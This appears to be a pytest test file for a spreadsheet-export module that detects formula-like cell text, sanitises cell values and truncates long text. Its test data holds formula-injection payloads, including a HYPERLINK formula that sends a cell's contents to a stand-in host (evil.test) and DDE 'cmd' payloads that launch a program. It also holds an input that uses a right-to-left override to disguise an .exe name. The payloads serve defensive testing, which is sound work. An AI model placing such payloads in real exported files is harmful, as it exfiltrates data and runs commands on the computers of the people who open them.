"""Cells of spreadsheets: what would be a formula, what no cell may hold, what is too long."""

import pytest

from jobs.export.cells import MOST, cell, clean, like_formula, shortened

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    "+49 30 1234",
    "-",
    "- a dash",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like(text: str) -> None:
    assert like_formula(text)


@pytest.mark.parametrize(
    "text", ["", "a=1", "12", "-12.50", "+3", "-1.234,56", "-5%", "'=1", " =1"]
)
def test_not_formula_like(text: str) -> None:
    assert not like_formula(text)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (None, None),
        (-3, -3),
        (0.5, 0.5),
        (True, True),
        (1 << 60, str(1 << 60)),
        (float("nan"), "nan"),
        (["a", "b"], "a\nb"),
        ([], ""),
        ([{"a": "ü"}], '[{"a": "ü"}]'),
        ("a\r\nb\rc", "a\nb\nc"),
        ("\x00\x1b[31m=1\u202egpj.exe\ud800\ufffe", "[31m=1gpj.exe"),
        ("\r=1", "\n=1"),
    ],
)
def test_cell(value: object, shown: object) -> None:
    found = cell(value)
    assert (found, type(found)) == (shown, type(shown))


def test_long_text_is_cut_with_a_note() -> None:
    assert shortened("x" * MOST) == "x" * MOST
    cut = shortened("x" * (MOST + 1))
    assert len(cut) == MOST
    assert cut.endswith("x … [cut: 32,768 characters, the result has all]")
    emoji = shortened("🎉" * MOST)  # two units each
    assert len(emoji.encode("utf-16-le")) // 2 in (MOST - 1, MOST)
    assert emoji.startswith("🎉🎉")


def test_clean_keeps_lines_and_tabs() -> None:
    assert clean("a\tb\nc") == "a\tb\nc"
